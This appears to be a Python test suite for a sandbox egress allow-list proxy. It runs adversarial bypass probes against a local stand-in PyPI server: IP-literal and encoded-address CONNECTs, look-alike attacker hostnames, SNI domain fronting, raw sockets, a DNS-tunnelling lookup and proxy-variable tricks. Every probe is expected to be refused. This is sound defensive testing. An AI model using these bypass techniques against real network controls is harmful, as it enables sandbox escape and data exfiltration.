"""The egress allow-list (network = "allowlist"; issue 17 item 2, ADVERSARIAL.md 12-13).

A stand-in "PyPI" runs in a container on an internal network this module makes; the allowed names
are mapped to it with ``mirrors`` and the proxy's outside network is that internal network, so no
packet of these tests can leave the machine (not even from the proxy). Each bypass case is judged by
the proxy's answer and by what reached the stand-in; the one direct connect is made only after the
route table was checked to hold no route off the sandbox's own proxy subnet.
"""

from __future__ import annotations

import json
import time
from collections.abc import AsyncIterator, Iterator
from typing import Any

import docker
import pytest

from mcp_codeexec import egress
from mcp_codeexec.errors import Unavailable
from mcp_codeexec.image import image_tag
from tests.adversarial.conftest import GVISOR, Sandbox, adversarial_settings, open_sandbox
from tests.support.egress_standin import StandIn, standin
from tests.support.servers import remove_installation

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(GVISOR, reason='network = "allowlist" is refused under runsc: this project registers '
                       "gVisor with --network=none, so a sandbox cannot reach the proxy network"),
]

ALLOWED = ["pypi.org", "files.pythonhosted.org"]

PROBE = r'''
import json, os, socket, ssl, sys
host, port = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1].rsplit(":", 1)
def ask(request, sni=None, host_header=None):
    s = socket.create_connection((host, int(port)), 10)
    s.sendall(request.encode())
    head = s.recv(65536).decode("latin-1")
    result = {"status": head.split("\r\n")[0]}
    if sni is not None and " 200 " in result["status"]:
        try:
            t = ssl._create_unverified_context().wrap_socket(s, server_hostname=sni or None)
            t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host_header).encode())
            data = b""
            while chunk := t.recv(4096):
                data += chunk
            result["body"] = data.decode("latin-1").split("\r\n\r\n", 1)[-1]
        except (OSError, ssl.SSLError) as exc:
            result["tls_error"] = type(exc).__name__
    print(json.dumps(result))
kind, target = sys.argv[1], sys.argv[2]
if kind == "connect":
    name = target.rsplit(":", 1)[0].strip("[]")
    sni = sys.argv[3] if len(sys.argv) > 3 else name
    ask("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target), sni, sys.argv[4] if len(sys.argv) > 4 else name)
else:
    ask("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target.split("/")[2]))
'''


@pytest.fixture(scope="module")
def stand_in(docker_engine: None) -> Iterator[StandIn]:
    with standin(image_tag("full"), ALLOWED) as server:
        yield server


def allowlist_settings(tmp: Any, server: StandIn, **extra: Any) -> Any:
    return adversarial_settings(
        tmp, call_timeout=60.0, network="allowlist", allow_hosts=ALLOWED,
        mirrors={name: server.tls for name in ALLOWED}, egress_network=server.network, **extra,
    )


@pytest.fixture(scope="module")
async def box(tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn) -> AsyncIterator[Sandbox]:
    settings = allowlist_settings(tmp_path_factory.mktemp("egress"), stand_in)
    try:
        async with open_sandbox(settings, "egress") as sandbox:
            await sandbox.edit(command="create", path="/workspace/probe.py", file_text=PROBE)
            await sandbox.edit(command="create", path="/workspace/ca.pem", file_text=stand_in.ca_pem())
            yield sandbox
    finally:
        remove_installation(settings)


async def probe(box: Sandbox, *args: str) -> dict[str, Any]:
    quoted = " ".join("'" + a + "'" for a in args)
    return json.loads(await box.sh(f"python3 /workspace/probe.py {quoted}"))


def seen(stand_in: StandIn) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stand_in.requests()]


def refused(result: dict[str, Any]) -> bool:
    """The proxy said 403; or (SslBump: squid confirms every CONNECT, then refuses inside TLS under
    its own throwaway certificate) answered ERR_ACCESS_DENIED itself, or cut the handshake."""
    body = result.get("body")
    return " 403 " in result["status"] or (body is None and "tls_error" in result) or "ERR_ACCESS_DENIED" in (body or "")


def proxy_log(box: Sandbox) -> list[str]:
    proxy = docker.from_env().containers.get(egress.PREFIX + box.container_id)
    return proxy.logs(stdout=True, stderr=False).decode().splitlines()


async def refused_by_proxy(box: Sandbox, target: str) -> bool:
    """A CONNECT to ``target`` is refused, and the proxy's log says denied and sent nowhere."""
    before = len(proxy_log(box))
    result = await probe(box, "connect", target)
    lines = proxy_log(box)[before:]
    return (refused(result) and any("TCP_DENIED" in line for line in lines)
            and not any("HIER_DIRECT" in line for line in lines))


# --- the sandbox's own network tables (judged without sending anything) ------------------------------


async def test_the_sandbox_has_no_default_route_no_ipv6_route_and_only_its_proxy_subnet(box: Sandbox) -> None:
    out = await box.sh("cat /proc/net/route; echo ==; cat /proc/net/ipv6_route; echo ==; cat /proc/net/dev; echo ==; cat /proc/net/if_inet6")
    route, ipv6, dev, inet6 = out.split("==\n")
    rows = [line.split() for line in route.splitlines()[1:] if line.strip()]
    assert len(rows) == 1, route  # the on-link route to the proxy's internal network, nothing else
    iface, destination, gateway, _flags, *_rest, mask = rows[0][:8]
    assert (iface, gateway) == ("eth0", "00000000") and destination != "00000000" and mask != "00000000", route
    assert all(line.split()[-1] == "lo" for line in ipv6.splitlines() if line.strip()), ipv6
    assert sorted(line.split(":")[0].strip() for line in dev.splitlines()[2:]) == ["eth0", "lo"], dev
    assert all(line.split()[-1] == "lo" for line in inet6.splitlines() if line.strip()), inet6


async def test_the_sandbox_network_is_internal_and_holds_only_the_sandbox_and_its_proxy(box: Sandbox) -> None:
    container = box.docker_container()
    (name,) = container.attrs["NetworkSettings"]["Networks"]
    net = docker.from_env().networks.get(name)
    assert net.attrs["Internal"] is True and name == egress.PREFIX + box.container_id
    assert net.attrs["Options"].get("com.docker.network.bridge.inhibit_ipv4") == "true"  # no host address on it
    assert {c.name for c in net.containers} == {container.name, name}
    assert container.attrs["HostConfig"]["Dns"] == ["127.0.0.1"]


async def test_the_proxy_runs_unprivileged_read_only_and_without_capabilities(box: Sandbox) -> None:
    proxy = docker.from_env().containers.get(egress.PREFIX + box.container_id)
    host = proxy.attrs["HostConfig"]
    assert proxy.attrs["Config"]["User"] == "proxy" and host["ReadonlyRootfs"] is True
    assert host["CapDrop"] == ["ALL"] and not host["CapAdd"] and not host["Privileged"]
    assert "no-new-privileges:true" in host["SecurityOpt"] and host["Dns"] == ["127.0.0.1"]
    assert not any("docker.sock" in (m.get("Source") or "") for m in proxy.attrs["Mounts"])


async def test_the_usual_proxy_variables_point_at_the_proxy(box: Sandbox) -> None:
    env = dict(line.split("=", 1) for line in (await box.sh("env")).splitlines() if "=" in line)
    url = env["HTTPS_PROXY"]
    for name in ("HTTP_PROXY", "http_proxy", "https_proxy", "PIP_PROXY", "npm_config_proxy", "npm_config_https_proxy"):
        assert env[name] == url, name
    assert url == f"http://{egress.PREFIX}{box.container_id}:{egress.PROXY_PORT}"


# --- what works -----------------------------------------------------------------------------------


async def test_pip_install_of_an_allowed_package_works_through_the_proxy(box: Sandbox, stand_in: StandIn) -> None:
    out = await box.sh(
        "PIP_CERT=/workspace/ca.pem pip install -q --target /workspace/site tinypkg 2>&1 && "
        "PYTHONPATH=/workspace/site python3 -c 'import tinypkg; print(tinypkg.HELLO)'"
    )
    assert out.strip().endswith("hello from tinypkg"), out
    assert {"path": "/simple/tinypkg/", "host": "pypi.org", "sni": "pypi.org"} in seen(stand_in)


async def test_python_urllib_with_the_ca_reaches_an_allowed_name(box: Sandbox) -> None:
    out = await box.sh("SSL_CERT_FILE=/workspace/ca.pem python3 -c \"import urllib.request as u; "
                       "print(u.urlopen('https://files.pythonhosted.org/', timeout=10).read().decode())\"")
    assert out.strip() == "standin files.pythonhosted.org"


# --- bypass attempts: each refused, and nothing reaches the stand-in -----------------------------------


async def test_connect_to_an_ip_literal_is_refused_even_where_a_server_answers(box: Sandbox, stand_in: StandIn) -> None:
    before = len(seen(stand_in))
    for target in (f"{stand_in.address}:443", "[::1]:443", "[::ffff:7f00:1]:443", "2130706433:443", "0x7f000001:443"):
        assert await refused_by_proxy(box, target), target
    assert len(seen(stand_in)) == before


async def test_names_beside_an_allowed_one_are_refused(box: Sandbox) -> None:
    # A suffix or prefix rule would open other names (and through them other addresses): only exact names pass.
    for target in ("x.pypi.org", "pypi.org.attacker.test", "127.0.0.1.nip.io", "evilpypi.org", "localhost"):
        assert await refused_by_proxy(box, f"{target}:443"), target


async def test_connect_to_a_port_other_than_443_is_refused(box: Sandbox, stand_in: StandIn) -> None:
    before = len(seen(stand_in))
    for port in (80, 8080, 22, 3128, 53):
        assert await refused_by_proxy(box, f"pypi.org:{port}"), port
    assert len(seen(stand_in)) == before


async def test_plain_http_through_the_proxy_is_refused(box: Sandbox) -> None:
    assert " 403 " in (await probe(box, "get", "http://pypi.org/simple/"))["status"]
    assert " 403 " in (await probe(box, "get", "http://localhost:3128/"))["status"]


async def test_a_tls_sni_other_than_the_connect_name_is_cut_off(box: Sandbox, stand_in: StandIn) -> None:
    # Domain fronting: CONNECT to an allowed name, then ask its server for another one by SNI.
    result = await probe(box, "connect", "pypi.org:443", "other-tenant.test", "other-tenant.test")
    assert refused(result), result
    assert not any(r["sni"] == "other-tenant.test" for r in seen(stand_in))


async def test_a_host_header_other_than_the_sni_still_reaches_only_the_allowed_host(box: Sandbox, stand_in: StandIn) -> None:
    # Inside an unbroken TLS tunnel the proxy cannot see Host; the request still goes to pypi.org's
    # (here: the stand-in's) pinned address, never anywhere the Host header names.
    result = await probe(box, "connect", "pypi.org:443", "pypi.org", "other-tenant.test")
    assert result.get("body") == "standin other-tenant.test", result
    assert seen(stand_in)[-1] == {"path": "/", "host": "other-tenant.test", "sni": "pypi.org"}


async def test_raw_and_packet_sockets_are_denied(box: Sandbox) -> None:
    out = await box.sh(
        "python3 -c \"\nimport socket\nfor fam, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), "
        "(socket.AF_INET6, socket.SOCK_RAW)):\n    try:\n        socket.socket(fam, kind, {socket.AF_INET: socket.IPPROTO_ICMP, socket.AF_INET6: socket.IPPROTO_ICMPV6}.get(fam, 0))\n"
        "        print('open')\n    except PermissionError:\n        print('denied')\n\""
    )
    assert out.split() == ["denied", "denied", "denied"]


async def test_no_name_resolves_in_the_sandbox_so_dns_cannot_carry_data(box: Sandbox) -> None:
    started = time.monotonic()
    out = await box.bash("getent hosts pypi.org; echo rc=$?; getent hosts aGVsbG8.tunnel.attacker.test; echo rc=$?; "
                         "python3 -c 'import socket; socket.getaddrinfo(\"pypi.org\", 443)' 2>&1 | tail -1")
    assert time.monotonic() - started < 12, "name lookups should fail fast (resolver timeout:1 attempts:1)"
    stdout = out.structured_content["stdout"]
    assert stdout.count("rc=2") == 2 and "gaierror" in stdout, stdout
    # Docker's embedded resolver (127.0.0.11, on the sandbox's own loopback) answers a raw query for
    # an allowed name with no address: it forwards only to the sandbox's loopback (dns 127.0.0.1).
    raw = await box.sh(
        "python3 -c \"\nimport socket, struct\nq = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + "
        "b''.join(bytes([len(p)]) + p for p in b'pypi.org'.split(b'.')) + b'\\\\0' + struct.pack('>HH', 1, 1)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\ns.sendto(q, ('127.0.0.11', 53))\n"
        "try:\n    r = s.recv(512); print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])\n"
        "except socket.timeout:\n    print('rcode none answers 0')\n\""
    )
    assert raw.split()[-1] == "0" and raw.split()[1] != "0", raw


async def test_no_proxy_and_unset_proxy_variables_give_no_way_around_the_proxy(box: Sandbox, stand_in: StandIn) -> None:
    before = len(seen(stand_in))
    out = await box.bash(
        "env -u PIP_PROXY NO_PROXY='*' no_proxy='*' PIP_CERT=/workspace/ca.pem timeout 30 pip download -q --no-deps -d /tmp/x tinypkg 2>&1 | tail -2; "
        "env -u HTTPS_PROXY -u https_proxy python3 -c \"import urllib.request as u; u.urlopen('https://pypi.org/', timeout=5)\" 2>&1 | tail -1"
    )
    stdout = out.structured_content["stdout"]
    assert "tinypkg" not in stdout.split("\n")[0] or "ERROR" in stdout, stdout
    assert "URLError" in stdout or "Errno" in stdout, stdout
    assert len(seen(stand_in)) == before


async def test_a_direct_connect_to_the_allowed_server_is_unreachable(box: Sandbox, stand_in: StandIn) -> None:
    # Guarded probe (ADVERSARIAL.md 12): first the route table must hold no default route, then a
    # connect only to the stand-in this test made on this machine, which the proxy reaches fine.
    routes = (await box.sh("cat /proc/net/route")).splitlines()[1:]
    assert routes and all(r.split()[1] != "00000000" for r in routes), routes
    out = await box.bash(f"python3 -c \"import socket; socket.create_connection(('{stand_in.address}', 443), 3)\" 2>&1 | tail -1")
    assert "Network is unreachable" in out.structured_content["stdout"], out.structured_content


# --- the proxy's resolution, and cleanup ------------------------------------------------------------


async def test_an_allowed_name_that_resolves_to_a_private_address_is_refused_at_creation(
    tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A rebinding or internal answer: the server resolves each name once, and a non-public answer
    # refuses the sandbox rather than pinning it (no resolver is asked: the answer is faked here).
    from mcp_codeexec.engines.docker import SandboxManager

    monkeypatch.setattr(egress.socket, "getaddrinfo", lambda *a, **k: [(2, 1, 6, "", ("127.0.0.1", 443))])
    settings = adversarial_settings(tmp_path_factory.mktemp("rebind"), network="allowlist",
                                    allow_hosts=["rebind.test"], egress_network=stand_in.network)
    client = docker.from_env()
    manager = SandboxManager(settings, client)
    try:
        with pytest.raises(Unavailable, match="non-public"):
            manager.create("alice")
        assert not client.networks.list(filters={"label": f"{egress.L_INSTALL}={manager.install}"})
    finally:
        remove_installation(settings)


def assert_proxy_released(client: docker.DockerClient, cid: str) -> None:
    """Neither the sandbox's proxy container nor its internal network is left."""
    with pytest.raises(docker.errors.NotFound):
        client.containers.get(egress.PREFIX + cid)
    with pytest.raises(docker.errors.NotFound):
        client.networks.get(egress.PREFIX + cid)


async def test_removing_an_allowlist_sandbox_removes_its_proxy_and_network(
    tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn
) -> None:
    from mcp_codeexec.engines.docker import SandboxManager

    settings = allowlist_settings(tmp_path_factory.mktemp("cleanup"), stand_in)
    client = docker.from_env()
    manager = SandboxManager(settings, client)
    try:
        record, _ = manager.create("alice")
        assert client.containers.get(egress.PREFIX + record.id).status == "running"
        manager.remove(record.id)
        assert_proxy_released(client, record.id)
    finally:
        remove_installation(settings)


async def test_a_stopped_sandbox_started_again_is_sealed_again_and_still_reaches_allowed_names(
    tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn
) -> None:
    # Idle stop and start give the container a fresh network namespace, with Docker's default route back.
    from mcp_codeexec.engines.docker import SandboxManager

    settings = allowlist_settings(tmp_path_factory.mktemp("restart"), stand_in)
    client = docker.from_env()
    manager = SandboxManager(settings, client)
    try:
        record, _ = manager.create("alice")
        manager.stop(record.id)
        client.containers.get(egress.PREFIX + record.id).stop(timeout=1)  # a host reboot stops both
        _, container = manager.find(record.id)
        routes = container.exec_run(["cat", "/proc/net/route"], user="1000:1000").output.decode().splitlines()[1:]
        assert len(routes) == 1 and routes[0].split()[1] != "00000000", routes
        code = ("import socket; s = socket.create_connection(('%s', 3128), 10); "
                "s.sendall(b'CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\n'); print(s.recv(100).decode())")
        env = container.attrs["Config"]["Env"]
        proxy = next(e for e in env if e.startswith("HTTPS_PROXY=")).rsplit("/", 1)[-1].split(":")[0]
        assert proxy == egress.PREFIX + record.id  # by name: its address may have changed with the restart
        out = container.exec_run(["python3", "-c", code % proxy], user="1000:1000").output.decode()
        assert " 200 " in out, out
    finally:
        remove_installation(settings)


async def test_the_proxy_and_network_of_a_sandbox_removed_behind_the_servers_back_are_swept(
    tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mcp_codeexec.engines.docker import NAME_PREFIX, SandboxManager

    settings = allowlist_settings(tmp_path_factory.mktemp("sweep"), stand_in)
    client = docker.from_env()
    manager = SandboxManager(settings, client)
    try:
        record, container = manager.create("alice")
        container.remove(force=True)  # docker rm behind the server's back (or an auto-removed pool container)
        assert client.networks.get(egress.PREFIX + record.id)
        monkeypatch.setattr(egress, "SWEEP_GRACE_SECONDS", 0.0)
        assert manager.egress.sweep() == [record.id]
        assert_proxy_released(client, record.id)
        with pytest.raises(docker.errors.NotFound):
            client.containers.get(NAME_PREFIX + record.id)
    finally:
        remove_installation(settings)


async def test_a_server_without_the_allow_list_reaps_the_proxies_an_allow_list_server_left(
    tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same data directory served later with ``network = false``: its reaper releases the
    proxy and network whose sandbox is gone, though it never makes any itself."""
    from mcp_codeexec.engines.docker import SandboxManager

    settings = allowlist_settings(tmp_path_factory.mktemp("later"), stand_in)
    client = docker.from_env()
    try:
        record, container = SandboxManager(settings, client).create("alice")
        container.remove(force=True)
        later = SandboxManager(settings.model_copy(update={"network": False}), client)
        monkeypatch.setattr(egress, "SWEEP_GRACE_SECONDS", 0.0)
        later.reap()
        assert_proxy_released(client, record.id)
    finally:
        remove_installation(settings)


async def test_a_mirror_on_a_port_other_than_443_is_reached_through_the_proxys_relay(
    tmp_path_factory: pytest.TempPathFactory, docker_engine: None
) -> None:
    # A stand-in with nothing on :443: pip still asks the proxy for pypi.org:443, and the proxy's
    # relay forwards that one name to ADDRESS:8443. Other ports, and the relay's loopback address as
    # an IP literal, stay refused.
    with standin(image_tag("full"), ALLOWED, tls_port=8443) as odd:
        settings = allowlist_settings(tmp_path_factory.mktemp("odd-port"), odd)
        try:
            async with open_sandbox(settings, "egress-odd-port") as sandbox:
                await sandbox.edit(command="create", path="/workspace/probe.py", file_text=PROBE)
                await sandbox.edit(command="create", path="/workspace/ca.pem", file_text=odd.ca_pem())
                out = await sandbox.sh(
                    "PIP_CERT=/workspace/ca.pem pip install -q --target /workspace/site tinypkg 2>&1 && "
                    "PYTHONPATH=/workspace/site python3 -c 'import tinypkg; print(tinypkg.HELLO)'"
                )
                assert out.strip().endswith("hello from tinypkg"), out
                assert {"path": "/simple/tinypkg/", "host": "pypi.org", "sni": "pypi.org"} in seen(odd)
                before = len(seen(odd))
                for target in ("pypi.org:8443", "127.0.0.2:443", f"{odd.address}:8443"):
                    assert await refused_by_proxy(sandbox, target), target
                assert len(seen(odd)) == before
        finally:
            remove_installation(settings)


async def test_the_python_api_opts_a_sandbox_into_the_allow_list(tmp_path_factory: pytest.TempPathFactory, stand_in: StandIn) -> None:
    from mcp_codeexec.api import Sandbox as ApiSandbox

    settings = adversarial_settings(tmp_path_factory.mktemp("api"))
    try:
        async with ApiSandbox(settings, call_timeout=30.0, network="allowlist", allow_hosts=["pypi.org"],
                              mirrors={"pypi.org": stand_in.tls}, egress_network=stand_in.network) as sb:
            block = await sb.bash("echo \"$HTTPS_PROXY\"; cat /proc/net/route | wc -l")
            proxy, routes = block.stdout.split()
            assert proxy.startswith("http://") and routes == "2"  # the header and the on-link route
    finally:
        remove_installation(settings)
